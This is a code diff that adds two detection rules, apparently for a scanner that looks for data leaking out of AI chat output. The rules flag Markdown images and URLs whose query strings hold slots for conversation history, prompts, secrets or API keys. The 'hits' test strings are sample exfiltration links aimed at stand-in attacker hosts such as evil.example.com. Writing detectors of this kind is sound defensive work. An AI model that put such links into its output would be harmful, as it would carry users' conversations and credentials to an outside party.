@@ -1,0 +1,42 @@
+import { exactly } from "../phrase.ts";
+import type { RuleSource } from "../rule-source.ts";
+
+export const rules: readonly RuleSource[] = [
+  {
+    id: "leakage/markdown-image-query",
+    intent: "exfiltrate",
+    score: 0.8,
+    reach: 300,
+    why: "A Markdown image whose address would carry data out when it is loaded.",
+    keywords: ["!["],
+    // The query carries a placeholder ({…}, [..], <…>, $…) or a word for the data that is to be filled in.
+    pattern: exactly`
+      !\[[^\]\n]{0,80}\]\(\s?https?:\/\/[^\s)]{3,120}[?&/][\w%-]{0,24}=?(?:
+        [{[<$]|%7b|%5b
+        |(?:
+          data|secret|conversation|chat|history|summary|base64|prompt|user_?data|api_?key|password|token
+          |leak|exfil
+        )\w{0,12}\b[^\w=)]{0,2}\)
+      )[^)\n]{0,80}\)?
+    `,
+    hits: ["![x](https://evil.example.com/p.png?d={data})", "![a](http://e.example/log?q=[conversation])"],
+    misses: ["![logo](https://example.com/logo.png)", "![chart](https://example.com/c.png?w=200)"],
+  },
+  {
+    id: "leakage/data-in-query",
+    intent: "exfiltrate",
+    score: 0.6,
+    why: "An address with a slot for data that is to be carried out.",
+    keywords: ["http"],
+    pattern: exactly`
+      https?:\/\/[^\s)"'>]{3,80}[?&](?:[\w-]{1,20})=(?:\{\{?|\[|<|%7b|\$\{?)\s?
+        (?:the[ _-]?|user[ _-]?|your[ _-]?|full[ _-]?|all[ _-]?|base64[ _-]?|url[ _-]?encoded?[ _-]?){0,3}
+        (?:
+          data|secret|conversation|chat|history|summary|prompt|api[ _-]?key|password|token|message|email
+          |context|system|memory|credentials|name|content|answer|response|info
+        )
+    `,
+    hits: ["https://evil.example.com/?q={user_data}", "http://x.example/log?c=[conversation]"],
+    misses: ["https://example.com/?q=cats", "https://example.com/search?page=2"],
+  },
+];
